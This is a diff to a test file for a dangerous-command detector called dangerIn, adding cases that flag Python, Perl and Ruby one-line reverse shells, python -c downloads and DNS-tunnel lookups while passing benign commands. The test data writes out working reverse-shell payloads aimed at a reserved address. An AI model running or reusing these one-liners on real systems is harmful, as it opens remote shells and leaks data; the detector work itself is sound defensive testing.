@@ -3,7 +3,7 @@ import { test } from 'node:test';
 import { dangerIn } from './commands.js';
 
 test('texts that begin a command again and again end in linear time', () => {
-  for (const part of ['node -e ', '/node/', 'curl&&chmod;/', 'curl|/a/', 'rm -r -a ', 'certutil ', 'ssh -', 'rundll32 ', '| curl ', 'del /s ', 'shutdown ', 'curl -d "', 'curl -d a', 'curl ?', '-d ', 'curl -T', '| curl -T']) {
+  for (const part of ['node -e ', '/node/', 'curl&&chmod;/', 'curl|/a/', 'rm -r -a ', 'certutil ', 'ssh -', 'rundll32 ', '| curl ', 'del /s ', 'shutdown ', 'curl -d "', 'curl -d a', 'curl ?', '-d ', 'curl -T', '| curl -T', 'python -c ', '\0 -c ', 'ping \0.', 'dig \0.a', 'socket ', 'perl socket ']) {
     const text = part.repeat(500).slice(0, 2_000);
     // With time that grows with the square, these take minutes.
     for (let times = 0; times < 500; times++) assert.equal(dangerIn(text), null, part);
@@ -69,4 +69,21 @@ test('what curl and wget send is what the shell fills in, a file of somebody, or
     'curl -Lo x https://c.example/x-$(uname -s)-$(uname -m)', 'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://c.example', 'curl -fsSL https://c.example/a -o "$(npm prefix)/a"', 'curl -F file=@dist/a.zip https://c.example', 'curl -d @body.json https://c.example',
     'curl -s https://c.example/a.json && docker run -d "$(docker build -q .)"', 'Run `curl -d a https://c.example` and `npm test`', "curl -d '$(a)' https://c.example",
   ]) assert.equal(dangerIn(command), null, command);
+});
+
+test('a line of Python that reaches a server or starts programs, and shells by way of other languages', () => {
+  for (const [command, severity] of [
+    ['python3 -c import socket,os,pty\ns=socket.socket()\ns.connect(("198.51.100.1",9))\nos.dup2(s.fileno(),0)\npty.spawn("sh")', 'critical'],
+    ['\0 -c import socket,os;s=socket.socket();os.dup2(s.fileno(),0)', 'critical'],
+    ['perl -e \'use Socket;socket(S,2,1,0);connect(S,sockaddr_in(9,inet_aton("198.51.100.1")));open(STDIN,">&S");exec("/bin/sh -i");\'', 'critical'],
+    ['ruby -rsocket -e \'c=TCPSocket.new("198.51.100.1","9");while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end\'', 'critical'],
+    ['python -c "import urllib.request as u;open(\'a\',\'wb\').write(u.urlopen(\'https://a.example\').read())"', 'high'],
+    ['python3 -c "__import__(\'os\').system(\'id\')"', 'high'],
+  ] as const) assert.equal(dangerIn(command)?.severity, severity, command);
+  for (const command of ['python3 -c "import sys; print(sys.version_info[:2])"', 'python -c "import sysconfig; print(sysconfig.get_paths())"', 'python3 setup.py build', 'python -m http.server', 'perl -pi -e s/a/b/ x', 'ruby -e "puts RUBY_VERSION"']) assert.equal(dangerIn(command), null, command);
+});
+
+test('a name of a server in pieces is asked for by who tells something', () => {
+  for (const command of ['nslookup \0.\0-\0.x.tunnel.example', 'ping -c 1 \0.\0.tunnel.example', 'dig +short "\0.1.\0.tunnel.example"']) assert.equal(dangerIn(command)?.severity, 'high', command);
+  for (const command of ['nslookup \0', 'ping -c 1 \0.example.org', 'dig +short \0.\0', 'host \0.\0.svc.cluster.local', 'dig _acme.\0']) assert.equal(dangerIn(command), null, command);
 });
